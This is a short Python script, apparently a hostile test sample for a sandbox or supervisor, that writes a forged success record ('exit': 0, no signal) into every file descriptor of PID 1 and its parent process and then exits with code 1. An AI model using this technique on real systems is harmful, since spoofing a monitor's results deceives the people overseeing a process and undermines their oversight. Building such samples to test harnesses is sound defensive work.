"""Writes into every descriptor of the processes around it that all went well, and ends with 1."""
import os

from hostile import note

for pid in (1, os.getppid()):
    try:
        descriptors = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        descriptors = [str(number) for number in range(16)]
    for number in descriptors:
        try:
            target = os.open("/proc/%d/fd/%s" % (pid, number), os.O_WRONLY | os.O_NONBLOCK)
            os.write(target, b'{"exit": 0, "signal": null, "max_rss_kb": 1, "cpu_ms": 1, "exit-code": 0, "child-pid": 1}\n')
        except OSError as error:
            note(str(error))
os._exit(1)
